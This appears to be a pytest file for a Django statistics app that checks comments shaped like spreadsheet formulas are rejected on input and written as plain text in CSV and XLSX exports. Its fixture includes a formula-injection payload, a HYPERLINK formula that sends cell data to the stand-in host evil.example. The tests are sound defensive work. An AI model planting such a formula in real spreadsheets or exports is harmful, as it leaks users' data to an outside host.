"""Formula injection through free text (issue 16, item 7): a comment that a spreadsheet would read
as a formula is refused at every input, as values are, and whatever user text reaches a CSV or
XLSX file (comments, unit and form names) is written as text, never as a live formula."""

import csv
import json
from datetime import date

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from hatangso.collection.models import DataElement, DataValue
from hatangso.collection.services import import_values, set_value
from hatangso.collection.workbooks import DATA_SHEET, HEADER, write_template
from hatangso.core.scoping import COMMAND_LINE
from hatangso.core.services import create_api_token, create_user, grant_membership
from hatangso.geography.models import AdministrativeUnit
from hatangso.geography.selectors import resolve_unit
from hatangso.utilities.importing import ImportRejected

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")'
COMMENT_VI = "ghi chú không được bắt đầu bằng =, +, -, @ (ký tự của công thức); hãy bỏ ký tự đầu"
COMMENT_EN = "a comment cannot start with =, +, -, @ (formula characters); remove the first character"
JUNE = date(2024, 6, 1)


@pytest.fixture
def commune_token(seed_plan, actor):
    user = create_user(username="tuha", password="a long passphrase 2024", actor=actor)
    grant_membership(user=user, role="commune", actor=actor, unit=resolve_unit("19996", start=JUNE))
    return create_api_token(user=user, name="t", actor=actor)[1]


@pytest.fixture
def stored_formula(seed_plan, actor):
    """A value whose comment and unit name look like formulas, as data from before this check or
    from another system could: the outputs must neutralise them on their own."""
    value = set_value(
        element=DataElement.objects.get(code="households"),
        unit=resolve_unit("19996", start=JUNE),
        period="2024",
        value="2500",
        actor=actor,
        comment="ghi chú",
    )
    DataValue.objects.filter(pk=value.pk).update(comment=FORMULA)
    AdministrativeUnit.objects.filter(pk=value.unit_id).update(name="@SUM(1+1)")
    return value


@pytest.mark.parametrize("comment", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "  =1+1"])
def test_api_refuses_a_formula_comment(commune_token, client, table_counts, comment):
    before = table_counts()
    response = client.put(
        "/api/v1/values/",
        data=json.dumps(
            {
                "data_element": "households",
                "unit": "19996",
                "period": "2024",
                "value": "3",
                "comment": comment,
            }
        ),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {commune_token}",
    )
    assert response.status_code == 400
    assert response.json() == {
        "detail": f"households: {COMMENT_VI}",
        "detail_en": f"households: {COMMENT_EN}",
    }
    assert table_counts() == before


def test_api_keeps_a_plain_comment_and_a_negative_number(commune_token, client):
    response = client.put(
        "/api/v1/values/",
        data=json.dumps(
            {"data_element": "households", "unit": "19996", "period": "2024", "value": "3", "comment": "-5"}
        ),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {commune_token}",
    )
    assert response.status_code == 200, response.json()
    assert response.json()["comment"] == "-5"  # a number, not a formula


def test_import_refuses_a_formula_comment(seed_plan, actor, tmp_path, table_counts):
    path = tmp_path / "so-lieu.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["ky", "ma_don_vi", "ma_chi_so", "gia_tri", "ghi_chu"])
        writer.writerow(["2024", "19996", "households", "2500", "đã kiểm tra"])
        writer.writerow(["2024", "19996", "population", "9000", FORMULA])
    before = table_counts()
    with pytest.raises(ImportRejected) as caught:
        import_values(path=path, actor=actor, user=COMMAND_LINE)
    assert [e.as_dict() for e in caught.value.errors] == [
        {"row": 3, "column": "ghi_chu", "value": FORMULA, "reason_vi": COMMENT_VI, "reason_en": COMMENT_EN}
    ]
    assert table_counts() == before


def test_csv_export_writes_formula_like_text_as_text(stored_formula, tmp_path):
    out = tmp_path / "so-lieu.csv"
    call_command("export", "values", "--format", "csv", "--out", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [(r["ten_don_vi"], r["ghi_chu"]) for r in rows] == [("'@SUM(1+1)", "'" + FORMULA)]
    assert rows[0]["gia_tri"] == "2500"


def test_xlsx_export_writes_formula_like_text_as_text(stored_formula, tmp_path):
    out = tmp_path / "so-lieu.xlsx"
    call_command("export", "values", "--format", "xlsx", "--out", str(out))
    row = load_workbook(out)["so_lieu"][2]
    assert [(c.value, c.data_type) for c in (row[2], row[6])] == [("@SUM(1+1)", "s"), (FORMULA, "s")]


def test_template_never_writes_a_formula_from_data(stored_formula, seed_plan, tmp_path):
    form = seed_plan.forms.get(code="ubnd_xa_nam")
    form.__class__.objects.filter(pk=form.pk).update(name="=1+1")
    form.refresh_from_db()
    path = tmp_path / "bieu.xlsx"
    write_template(form=form, unit=resolve_unit("19996", start=JUNE), period="2024", path=path)
    workbook = load_workbook(path)
    cells = [c for row in workbook[DATA_SHEET].iter_rows() for c in row]
    cells += [c for row in workbook["huong_dan"].iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no live formula anywhere
    row = next(
        r
        for r in workbook[DATA_SHEET].iter_rows(min_row=2)
        if r[HEADER.index("ma_chi_so")].value == "households"
    )
    assert row[HEADER.index("ghi_chu")].value == FORMULA
    assert row[HEADER.index("ten_don_vi")].value == "@SUM(1+1)"
    assert workbook["huong_dan"]["A1"].value == "=1+1"


def test_template_with_a_formula_comment_does_not_reimport_it(stored_formula, seed_plan, actor, tmp_path):
    path = tmp_path / "bieu.xlsx"
    AdministrativeUnit.objects.filter(pk=stored_formula.unit_id).update(name="Phường Tứ Hạ")
    write_template(
        form=seed_plan.forms.get(code="ubnd_xa_nam"),
        unit=resolve_unit("19996", start=JUNE),
        period="2024",
        path=path,
    )
    with pytest.raises(ImportRejected) as caught:
        import_values(path=path, actor=actor, user=COMMAND_LINE)
    assert {(e.column, e.reason_en) for e in caught.value.errors} == {("ghi_chu", COMMENT_EN)}
